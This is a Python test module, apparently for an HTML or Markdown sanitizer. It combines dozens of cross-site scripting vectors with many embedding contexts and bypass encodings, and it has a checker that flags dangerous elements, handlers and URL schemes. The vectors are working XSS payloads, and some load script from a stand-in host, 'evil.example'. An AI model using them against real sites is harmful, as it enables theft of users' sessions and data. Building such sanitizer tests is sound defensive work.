"""Cross-site scripting, our own collection: what runs a script × where it is put × how it is written."""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator
from html import escape
from typing import Any
from urllib.parse import quote

import html5lib

MARK = "9131"
RUN = f"alert({MARK})"

VECTORS = (
    f"<script>{RUN}</script>",
    "<script src=//evil.example/x.js></script>",
    f"<script\x0c>{RUN}</script\n>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<img src=x onerror={RUN}>",
    f'<img/src="x"/onerror={RUN}//',
    f"<img src=javascript:{RUN}>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><a xlink:href=javascript:{RUN}><text>x</text></a></svg>",
    f"<svg><animate attributeName=href values=javascript:{RUN} /><a id=x></a></svg>",
    f"<svg><style><img src=x onerror={RUN}></style></svg>",
    f"<math href=javascript:{RUN}>x</math>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--><img src=1 onerror={RUN}>'>",
    f"<iframe srcdoc='<script>{RUN}</script>'></iframe>",
    f"<iframe src=javascript:{RUN}></iframe>",
    f"<object data=javascript:{RUN}></object>",
    f"<embed src=javascript:{RUN}>",
    f"<a href=javascript:{RUN}>x</a>",
    f"<a href='&#1;javascript:{RUN}'>x</a>",
    f"<a href=x onclick={RUN}>x</a>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}></select>",
    f"<form action=javascript:{RUN}><button>x</button></form>",
    f"<form><button formaction=javascript:{RUN}>x</button></form>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}></audio>",
    "<base href=//evil.example/>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    f"<div style='background:url(javascript:{RUN})'>x</div>",
    f"<p style=animation-name:x onanimationstart={RUN}>x</p>",
    f"<template><script>{RUN}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<textarea></textarea><img src=x onerror={RUN}>",
    f"<title></title><img src=x onerror={RUN}>",
    f"<xmp></xmp><img src=x onerror={RUN}>",
    f"<table><td background=javascript:{RUN}></table>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<isindex type=image src=1 onerror={RUN}>",
    f"<x onpointerover={RUN} contenteditable>x</x>",
    f"<!--><img src=x onerror={RUN}>-->",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"<?xml-stylesheet href='javascript:{RUN}'?>",
    f"<!DOCTYPE x [<!ENTITY y '<script>{RUN}</script>'>]>&y;",
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\tscript:{RUN}",
    f"\x01javascript:{RUN}",
    f"javascript&colon;{RUN}",
    f"javascript://%0a{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCg5MTMxKTwvc2NyaXB0Pg==",
    f"data:image/svg+xml,<svg onload={RUN}>",
    f"vbscript:msgbox({MARK})",
    "//evil.example/x.js",
    f'" onmouseover="{RUN}',
    f"' onfocus='{RUN}' autofocus='",
    f"{{{{ {RUN} }}}}",
)

CONTEXTS = (
    "{}",
    "some words {} and more",
    '">{}',
    "'>{}",
    "-->{}<!--",
    "]]>{}",
    "</title>{}",
    "</textarea>{}",
    "</script>{}",
    "</style>{}",
    "`{}`",
    "```{}\n{}\n```",
    "    {}",
    "[x]({})",
    "[x](<{}>)",
    '[x](/a "{}")',
    "![{}](/media/a.png)",
    "![x]({})",
    "<{}>",
    "[x]: {}\n\n[x]",
    "[{}][]\n\n[{}]: /a",
    "* {}",
    "> {}",
    "# {}",
    "{}\n===",
    "| {} |\n|---|\n| {} |",
    "word\n: {}",
    "**{}**",
    "~~{}~~",
    "\\{}",
    "&{};",
)


def _decimal(text: str) -> str:
    return "".join(f"&#{ord(character)};" if not character.isalnum() else character for character in text)


def _no_semicolon(text: str) -> str:
    return "".join(f"&#x{ord(character):07x}" if character in "<>:\"'=" else character for character in text)


def _wide(text: str) -> str:
    return text.translate({ord("<"): "＜", ord(">"): "＞", ord('"'): "＂"})  # NFKC would make ASCII of them


ENCODINGS: tuple[Callable[[str], str], ...] = (
    str,
    str.upper,
    escape,
    _decimal,
    _no_semicolon,
    lambda text: escape(escape(text)),
    lambda text: quote(text, safe=""),
    lambda text: text.replace("script", "scr\x00ipt").replace("on", "o\x00n"),
    lambda text: text.replace(" ", "\x0b").replace("=", "\t=\n"),
    lambda text: text.replace("<", "\\u003c").replace(">", "\\x3e"),
    _wide,
    lambda text: text.replace("s", "ſ").replace("k", "K"),  # letters that become ASCII in capitals
)


def payloads() -> list[str]:
    """Every vector in every context as it is, and a fixed share of their other spellings."""
    plain = [context.replace("{}", vector) for context in CONTEXTS for vector in VECTORS]
    combined = [
        context.replace("{}", encode(vector))
        for n, encode in enumerate(ENCODINGS[1:])
        for m, context in enumerate(CONTEXTS)
        for k, vector in enumerate(VECTORS)
        if (n + m + k) % 13 == 0
    ]
    return list(dict.fromkeys([*plain, *combined]))


# What must not be left ------------------------------------------------------------------------------------

ADDRESSES = ("href", "src", "action", "formaction", "data", "poster", "background", "cite", "xlink:href", "srcset")
SCHEME = re.compile(r"([a-zA-Z][a-zA-Z0-9+.-]*):")


def faults(markup: str, *, elements: frozenset[str] | set[str], schemes: frozenset[str] | set[str]) -> Iterator[str]:
    """What a browser would run, load or follow in the fragment *markup*, or what stands there and should not.

    Args:
        elements: names of those that may stand there.
        schemes: of addresses that may.
    """
    tree = html5lib.parseFragment(markup, treebuilder="etree", namespaceHTMLElements=True)
    for element in tree.iter():
        if element is tree:
            continue
        name = str(element.tag)
        if not name.startswith("{http://www.w3.org/1999/xhtml}") or name.rpartition("}")[2] not in elements:
            yield f"element {name}"
        yield from attribute_faults(element, schemes)


def attribute_faults(element: Any, schemes: frozenset[str] | set[str]) -> Iterator[str]:
    """Handlers, styles, and addresses that run."""
    for name, value in element.attrib.items():
        if str(name).lower().startswith("on") or name in {"style", "srcdoc"}:
            yield f"{element.tag} {name}"
        if name in ADDRESSES:
            followed = re.sub(r"[\x00-\x20]", "", value)  # as browsers do
            found = SCHEME.match(followed)
            if found and found[1].lower() not in schemes:
                yield f"{element.tag} {name}={value}"
